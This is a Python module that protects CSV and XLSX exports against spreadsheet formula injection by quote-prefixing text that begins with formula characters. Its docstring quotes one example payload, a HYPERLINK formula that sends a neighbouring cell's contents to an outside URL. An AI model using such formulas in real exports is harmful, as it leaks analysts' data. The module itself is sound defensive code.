"""Spreadsheet-safe cells: the one place every CSV and XLSX export writes through.

A spreadsheet program reads a cell whose text begins with ``=``, ``+``, ``-``
or ``@`` (and, on import, one beginning with a tab or carriage return) as a
formula. Text that users typed (an indicator's name, a forum's, an
organisation's) would then run in the analyst's Excel: an indicator named
``=HYPERLINK("http://…?leak="&C5,"öppna")`` sends the neighbouring cell away.
So, as OWASP's CSV-injection guidance describes, such text gets a leading
single quote, and the spreadsheet shows it as text.

Decisions:

* Only text is neutralised. A real number (``int``, ``float``, ``Decimal``)
  is written as a number, negative or not, so sums still work. Text that
  looks like a number ("-5", "+46 8 …") is a label, not a figure: it is
  neutralised like any other text. A figure that should be summed must be
  handed over as a number.
* Besides the first character, the first character after leading whitespace
  counts too (" =1+1", "\\n@SUM(1)"), and so do the full-width forms
  (＝ ＋ － ＠), which some spreadsheet programs also read as formulas.
* Values that are neither text, numbers, dates nor None are written as their
  text (``str()``), neutralised.
* In XLSX every text cell is stored as a string, never as a formula or an
  error value, whatever it holds (openpyxl by itself turns a ``str``
  beginning with "=" into a formula). Control characters that XML cannot hold
  are dropped, so a name typed with one cannot make the whole export fail.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from datetime import date, datetime, time, timedelta
from decimal import Decimal
from typing import Any

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_STARTS = frozenset("=+-@\t\r＝＋－＠")
_PREFIX = "'"
_KEPT_TYPES = (int, float, Decimal, date, datetime, time, timedelta)  # bool is an int


def is_dangerous(text: str) -> bool:
    """True when a spreadsheet could read the text as a formula."""
    if not text:
        return False
    if text[0] in FORMULA_STARTS:
        return True
    stripped = text.lstrip()
    return bool(stripped) and stripped[0] in FORMULA_STARTS


def neutralise(value: Any) -> Any:
    """A cell value that no spreadsheet reads as a formula; numbers and dates unchanged."""
    if value is None or isinstance(value, _KEPT_TYPES):
        return value
    text = value if isinstance(value, str) else str(value)
    return _PREFIX + text if is_dangerous(text) else text


def neutralise_row(row: Iterable[Any]) -> list[Any]:
    return [neutralise(value) for value in row]


def csv_bytes(rows: Iterable[Sequence[Any]]) -> bytes:
    """CSV as Excel reads it (UTF-8 with byte-order mark, CRLF), every text cell neutralised."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    for row in rows:
        writer.writerow(["" if value is None else value for value in neutralise_row(row)])
    return buffer.getvalue().encode("utf-8-sig")


def append_xlsx_row(sheet: Any, row: Iterable[Any]) -> None:
    """Append a row to an openpyxl sheet: text neutralised and stored as strings."""
    values = [
        ILLEGAL_CHARACTERS_RE.sub("", value) if isinstance(value, str) else value
        for value in neutralise_row(row)
    ]
    sheet.append(values)
    if not values:
        return
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
